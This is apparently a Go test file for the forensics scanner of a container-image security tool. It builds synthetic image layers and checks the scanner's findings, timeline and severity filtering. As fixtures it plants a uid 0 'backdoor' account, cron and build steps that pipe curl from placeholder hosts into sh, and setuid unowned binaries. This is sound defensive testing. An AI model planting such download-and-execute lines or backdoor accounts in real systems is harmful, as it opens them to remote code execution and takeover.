package cli

import (
	"archive/tar"
	"bytes"
	"io"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	v1 "github.com/google/go-containerregistry/pkg/v1"
	"github.com/google/go-containerregistry/pkg/v1/empty"
	"github.com/google/go-containerregistry/pkg/v1/mutate"
	"github.com/google/go-containerregistry/pkg/v1/tarball"

	"github.com/trawlsec/trawl/pkg/model"
)

// tarEntry is one file of a test layer.
type tarEntry struct {
	name string
	mode int64
	body string
}

// forensicsImage builds an image of layers written with archive/tar, each
// with its history command.
func forensicsImage(t *testing.T, layers [][]tarEntry, createdBy []string) (v1.Image, []string) {
	t.Helper()
	img := empty.Image
	var diffIDs []string
	for i, entries := range layers {
		var buf bytes.Buffer
		tw := tar.NewWriter(&buf)
		for _, e := range entries {
			// A name ending in "/" is a directory; the c_ISCHR bit in
			// mode makes a character device.
			h := &tar.Header{Name: e.name, Mode: e.mode, Size: int64(len(e.body)), Typeflag: tar.TypeReg}
			switch {
			case strings.HasSuffix(e.name, "/"):
				h.Typeflag, h.Size = tar.TypeDir, 0
			case e.mode&0o170000 == 0o020000:
				h.Typeflag, h.Size, h.Mode = tar.TypeChar, 0, e.mode&0o7777
			}
			if err := tw.WriteHeader(h); err != nil {
				t.Fatal(err)
			}
			tw.Write([]byte(e.body))
		}
		tw.Close()
		b := buf.Bytes()
		layer, err := tarball.LayerFromOpener(func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(b)), nil })
		if err != nil {
			t.Fatal(err)
		}
		d, err := layer.DiffID()
		if err != nil {
			t.Fatal(err)
		}
		diffIDs = append(diffIDs, d.String())
		img, err = mutate.Append(img, mutate.Addendum{Layer: layer, History: v1.History{CreatedBy: createdBy[i], Created: v1.Time{Time: time.Date(2024, 1, i+1, 12, 0, 0, 0, time.UTC)}}})
		if err != nil {
			t.Fatal(err)
		}
	}
	return img, diffIDs
}

// TestForensicsImage: a base layer with normal accounts, a second layer
// adding a uid 0 user with a shell, a cron job piping curl into sh and a
// setuid ELF no package owns, a third deleting the cron job. Every finding
// comes with the layer that added it; the cron findings are Deleted. The
// base layer's own files give nothing.
func TestForensicsImage(t *testing.T) {
	const passwd = "root:x:0:0:root:/root:/bin/sh\ndaemon:x:1:1:daemon:/usr/sbin:/sbin/nologin\n"
	elf := "\x7fELF\x02\x01\x01\x00" + string(make([]byte, 56))
	img, diffIDs := forensicsImage(t, [][]tarEntry{
		{
			{"etc/os-release", 0o644, "ID=alpine\nVERSION_ID=3.19.1\n"},
			{"lib/apk/db/installed", 0o644, "P:busybox\nV:1.36.1-r5\nA:x86_64\no:busybox\nL:GPL-2.0-only\nF:bin\nR:busybox\nF:etc/periodic\n\n"},
			{"etc/passwd", 0o644, passwd},
			{"etc/shadow", 0o640, "root:*:19000:0:::::\ndaemon:*:19000:0:::::\n"},
			{"bin/busybox", 0o4755, elf},
			{"etc/crontabs/root", 0o600, "*/15 * * * * run-parts /etc/periodic/15min\n"},
		},
		{
			{"etc/passwd", 0o644, passwd + "backdoor:x:0:0::/root:/bin/sh\n"},
			{"etc/cron.d/job", 0o644, "# refresh\n* * * * * root curl http://x | sh\n"},
			{"usr/local/bin/x", 0o4755, elf},
		},
		{
			{"etc/cron.d/.wh.job", 0o644, ""},
		},
	}, []string{"ADD rootfs.tar /", "RUN ./install.sh", "RUN rm /etc/cron.d/job"})
	archive := writeArchive(t, img)

	out, errOut, code := run(t, "image", "--input", archive, "--cache-dir", t.TempDir(), "--quiet", "--scanners", "forensics", "-f", "json", "--exit-code", "3")
	if code != 3 {
		t.Fatalf("exit %d, want 3 (findings): %s", code, errOut)
	}
	r := decode(t, out)
	res := forensicsResult(t, r)
	if res.Target != archive {
		t.Errorf("target = %q, want the artifact %q", res.Target, archive)
	}
	type row struct {
		ID, Severity, Path, DiffID, CreatedBy, Mode, Package string
		Deleted                                              bool
	}
	var got []row
	for _, f := range res.Findings {
		if f.ID == "FOR-HARDEN-EOL" {
			continue // Alpine 3.19's end of life depends on today's date
		}
		got = append(got, row{f.ID, f.Severity, f.Path, f.Layer.DiffID, f.Layer.CreatedBy, f.Mode, f.Package, f.Deleted})
		if f.Path == "usr/local/bin/x" && (f.SHA256 == "" || f.Size != int64(len(elf)) || f.UID == nil || *f.UID != 0) {
			t.Errorf("evidence of %s: %+v", f.ID, f)
		}
	}
	l1, l2 := diffIDs[0], diffIDs[1]
	want := []row{
		{"FOR-PERM-SETUID", "LOW", "bin/busybox", l1, "ADD rootfs.tar /", "-rwsr-xr-x", "busybox", false},
		{"FOR-HARDEN-SHELL", "LOW", "bin/busybox", l1, "ADD rootfs.tar /", "-rwsr-xr-x", "busybox", false},
		{"FOR-PERSIST-CRON", "MEDIUM", "etc/cron.d/job", l2, "RUN ./install.sh", "-rw-r--r--", "", true},
		{"FOR-MARKER-DOWNLOAD-EXEC", "HIGH", "etc/cron.d/job", l2, "RUN ./install.sh", "-rw-r--r--", "", true},
		{"FOR-ACCOUNT-UID0", "CRITICAL", "etc/passwd", l2, "RUN ./install.sh", "-rw-r--r--", "", false},
		{"FOR-ACCOUNT-SHELL", "MEDIUM", "etc/passwd", l2, "RUN ./install.sh", "-rw-r--r--", "", false},
		{"FOR-PERM-SETUID", "HIGH", "usr/local/bin/x", l2, "RUN ./install.sh", "-rwsr-xr-x", "none", false},
		{"FOR-EXEC-UNOWNED", "MEDIUM", "usr/local/bin/x", l2, "RUN ./install.sh", "-rwsr-xr-x", "none", false},
		{ID: "FOR-CONFIG-ROOT", Severity: "MEDIUM"}, // the config has no User
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}

	// --severity keeps the critical one only.
	out, errOut, code = run(t, "image", "--input", archive, "--cache-dir", t.TempDir(), "--quiet", "--scanners", "forensics", "-f", "json", "--severity", "CRITICAL")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	if res := forensicsResult(t, decode(t, out)); len(res.Findings) != 1 || res.Findings[0].ID != "FOR-ACCOUNT-UID0" {
		t.Errorf("--severity CRITICAL: %+v", res.Findings)
	}
}

// TestForensicsDeletedAndConfig: a layer adds a tool and an archive, the
// next deletes them (whiteouts): both are reported, Deleted, with the
// layer that added them, their size and hash. The image config's red
// flags: curl piped into sh in a step, SSH exposed, an entrypoint no
// package owns; it runs as a user, so not as root.
func TestForensicsDeletedAndConfig(t *testing.T) {
	elf := "\x7fELF\x02\x01\x01\x00" + string(make([]byte, 56))
	img, diffIDs := forensicsImage(t, [][]tarEntry{
		{{"etc/os-release", 0o644, "ID=alpine\nVERSION_ID=3.19.1\n"}},
		{{"root/scan", 0o755, elf}, {"root/loot.tar.gz", 0o644, "archive"}, {"app/server", 0o755, elf}},
		{{"root/.wh.scan", 0o644, ""}, {"root/.wh.loot.tar.gz", 0o644, ""}},
	}, []string{"ADD rootfs.tar /", "RUN curl -fsSL https://get.example/x | sh", "RUN rm /root/scan /root/loot.tar.gz"})
	cf, err := img.ConfigFile()
	if err != nil {
		t.Fatal(err)
	}
	cfg := cf.Config
	cfg.User = "app"
	cfg.ExposedPorts = map[string]struct{}{"22/tcp": {}, "8080/tcp": {}}
	cfg.Entrypoint = []string{"/app/server"}
	if img, err = mutate.Config(img, cfg); err != nil {
		t.Fatal(err)
	}
	out, errOut, code := run(t, "image", "--input", writeArchive(t, img), "--cache-dir", t.TempDir(), "--quiet", "--scanners", "forensics", "-f", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	type row struct {
		ID, Severity, Path, DiffID string
		Deleted                    bool
		Size                       int64
	}
	var got []row
	for _, f := range forensicsResult(t, decode(t, out)).Findings {
		if f.ID == "FOR-DELETED-FILE" || strings.HasPrefix(f.ID, "FOR-CONFIG-") {
			got = append(got, row{f.ID, f.Severity, f.Path, f.Layer.DiffID, f.Deleted, f.Size})
			if f.ID == "FOR-DELETED-FILE" && len(f.SHA256) != 64 {
				t.Errorf("%s %s: no SHA-256", f.ID, f.Path)
			}
		}
	}
	l2 := diffIDs[1]
	want := []row{
		{"FOR-DELETED-FILE", "LOW", "root/loot.tar.gz", l2, true, 7},
		{"FOR-DELETED-FILE", "MEDIUM", "root/scan", l2, true, int64(len(elf))},
		{"FOR-CONFIG-REMOTE-FETCH", "MEDIUM", "", l2, false, 0},
		{"FOR-CONFIG-ADMIN-PORT", "MEDIUM", "", "", false, 0},
		{"FOR-CONFIG-ENTRYPOINT-UNOWNED", "LOW", "app/server", l2, false, int64(len(elf))},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
}

// forensicsResult returns the one forensics result of r.
func forensicsResult(t *testing.T, r model.Report) model.Result {
	t.Helper()
	var out []model.Result
	for _, res := range r.Results {
		if res.Class == model.ClassForensics {
			out = append(out, res)
		}
	}
	if len(out) != 1 {
		t.Fatalf("forensics results = %+v", out)
	}
	return out[0]
}

// TestForensicsTargets: the forensics scanner is refused where it does
// not run, with a one-line error.
func TestForensicsTargets(t *testing.T) {
	_, errOut, code := run(t, "fs", "--scanners", "forensics", "--cache-dir", t.TempDir(), t.TempDir())
	if code == 0 || !bytes.Contains([]byte(errOut), []byte("image and rootfs targets only")) {
		t.Errorf("fs --scanners forensics: exit %d, %q", code, errOut)
	}
}

// TestForensicsEntries: a character device planted outside dev/ and
// world-writable directories without the sticky bit are reported in the
// layer that added them; dev/ nodes, a sticky tmp and directories below
// it are not, and a directory a later layer deletes is Deleted.
func TestForensicsEntries(t *testing.T) {
	const chr = 0o020000
	img, diffIDs := forensicsImage(t, [][]tarEntry{
		{
			{"etc/os-release", 0o644, "ID=alpine\nVERSION_ID=3.19.1\n"},
			{"dev/", 0o755, ""}, {"dev/null", chr | 0o666, ""},
			{"tmp/", 0o1777, ""}, {"tmp/cache/", 0o777, ""},
			{"srv/upload/", 0o777, ""},
		},
		{
			{"usr/lib/.mem", chr | 0o600, ""},
			{"var/www/", 0o777, ""}, {"opt/", 0o777, ""},
		},
		{{"opt/.wh..wh..opq", 0o644, ""}, {".wh.var", 0o644, ""}},
	}, []string{"ADD rootfs.tar /", "RUN ./install.sh", "RUN rm -rf /var"})
	out, errOut, code := run(t, "image", "--input", writeArchive(t, img), "--cache-dir", t.TempDir(), "--quiet", "--scanners", "forensics", "-f", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	type row struct {
		ID, Severity, Path, DiffID, Mode string
		Deleted                          bool
	}
	var got []row
	for _, f := range forensicsResult(t, decode(t, out)).Findings {
		if strings.HasPrefix(f.ID, "FOR-PERM-") {
			got = append(got, row{f.ID, f.Severity, f.Path, f.Layer.DiffID, f.Mode, f.Deleted})
		}
	}
	want := []row{
		{"FOR-PERM-WORLD-WRITABLE-DIR", "MEDIUM", "srv/upload", diffIDs[0], "drwxrwxrwx", false},
		{"FOR-PERM-WORLD-WRITABLE-DIR", "MEDIUM", "opt", diffIDs[1], "drwxrwxrwx", false},
		{"FOR-PERM-DEVICE", "HIGH", "usr/lib/.mem", diffIDs[1], "crw-------", false},
		{"FOR-PERM-WORLD-WRITABLE-DIR", "MEDIUM", "var/www", diffIDs[1], "drwxrwxrwx", true},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
}

// TestForensicsTimeline: one timeline row per layer, in JSON and in the
// table, with the history's creation time and command, the files each
// layer added, changed and deleted, the packages it installed and
// removed, and (table) the findings attributed to it.
func TestForensicsTimeline(t *testing.T) {
	const apkDB = "lib/apk/db/installed"
	pkg := func(name string) string { return "P:" + name + "\nV:1.0-r0\nA:x86_64\n\n" }
	img, diffIDs := forensicsImage(t, [][]tarEntry{
		{
			{"etc/os-release", 0o644, "ID=alpine\nVERSION_ID=3.19.1\n"},
			{apkDB, 0o644, pkg("musl") + pkg("curl")},
			{"etc/motd", 0o644, "hi"}, {"etc/issue", 0o644, "x"},
		},
		{
			{apkDB, 0o644, pkg("musl") + pkg("nginx") + pkg("openssl")},
			{"etc/motd", 0o644, "changed"}, {"usr/local/bin/x", 0o755, "\x7fELF" + strings.Repeat("\x00", 60)},
		},
		{{"etc/.wh.issue", 0o644, ""}},
	}, []string{"ADD rootfs.tar /", "RUN apk add nginx && apk del curl", "RUN rm /etc/issue"})
	archive := writeArchive(t, img)
	cache := t.TempDir()
	out, errOut, code := run(t, "image", "--input", archive, "--cache-dir", cache, "--quiet", "--scanners", "forensics", "-f", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	type row struct {
		Index                                       int
		DiffID, Created, CreatedBy                  string
		Added, Changed, Deleted, Installed, Removed int
	}
	var got []row
	for _, l := range forensicsResult(t, decode(t, out)).Timeline {
		got = append(got, row{l.Index, l.DiffID, l.Created, l.CreatedBy, l.FilesAdded, l.FilesChanged, l.FilesDeleted, l.PackagesInstalled, l.PackagesRemoved})
		if l.Size <= 0 {
			t.Errorf("layer %d: size %d", l.Index, l.Size)
		}
	}
	want := []row{
		{0, diffIDs[0], "2024-01-01T12:00:00Z", "ADD rootfs.tar /", 4, 0, 0, 1, 0},
		{1, diffIDs[1], "2024-01-02T12:00:00Z", "RUN apk add nginx && apk del curl", 1, 2, 0, 2, 1},
		{2, diffIDs[2], "2024-01-03T12:00:00Z", "RUN rm /etc/issue", 0, 0, 1, 0, 0},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("timeline (-want +got):\n%s", diff)
	}

	// The table, from the cached layers: the findings of layer 1 are the
	// unowned executable.
	table, errOut, code := run(t, "image", "--input", archive, "--cache-dir", cache, "--quiet", "--scanners", "forensics", "--severity", "MEDIUM,HIGH,CRITICAL")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	for _, line := range []string{
		"│ 1 │ " + shortID(diffIDs[1]) + " │ 2024-01-02T12:00:00 │",
		"│ +1 ~2 -0 │ +2 -1    │ 1        │ RUN apk add nginx && apk del curl │",
		"│ +0 ~0 -1 │ +0 -0    │ 0        │ RUN rm /etc/issue",
	} {
		if !strings.Contains(table, line) {
			t.Errorf("table lacks %q:\n%s", line, table)
		}
	}
}

// shortID is a DiffID as the table shortens it.
func shortID(d string) string { return strings.TrimPrefix(d, "sha256:")[:12] }

// TestForensicsHardeningPackages: an Alpine image whose second layer
// installs curl and gdb gets FOR-HARDEN-NET-TOOL and
// FOR-HARDEN-DEBUG-TOOL in that layer, with the installed size the apk
// database gives; musl gets nothing.
func TestForensicsHardeningPackages(t *testing.T) {
	const db = "lib/apk/db/installed"
	musl := "P:musl\nV:1.2.4-r2\nA:x86_64\nI:1000\n\n"
	img, diffIDs := forensicsImage(t, [][]tarEntry{
		{{"etc/os-release", 0o644, "ID=alpine\nVERSION_ID=3.19.1\n"}, {db, 0o644, musl}},
		{{db, 0o644, musl + "P:curl\nV:8.5.0-r0\nA:x86_64\nI:4096\n\nP:gdb\nV:14.1-r0\nA:x86_64\nI:2097152\n\n"}},
	}, []string{"ADD rootfs.tar /", "RUN apk add curl gdb"})
	out, errOut, code := run(t, "image", "--input", writeArchive(t, img), "--cache-dir", t.TempDir(), "--quiet", "--scanners", "forensics", "-f", "json")
	if code != 0 {
		t.Fatalf("exit %d: %s", code, errOut)
	}
	type row struct {
		ID, Package, DiffID string
		Size                int64
	}
	var got []row
	for _, f := range forensicsResult(t, decode(t, out)).Findings {
		if strings.HasSuffix(f.ID, "-TOOL") {
			got = append(got, row{f.ID, f.Package, f.Layer.DiffID, f.Size})
			if !strings.Contains(f.Message, "installed size") || strings.Contains(f.Message, "vulnerabilities") {
				t.Errorf("%s: message %q", f.ID, f.Message)
			}
		}
	}
	want := []row{{"FOR-HARDEN-NET-TOOL", "curl", diffIDs[1], 4096}, {"FOR-HARDEN-DEBUG-TOOL", "gdb", diffIDs[1], 2 << 20}}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("findings (-want +got):\n%s", diff)
	}
}
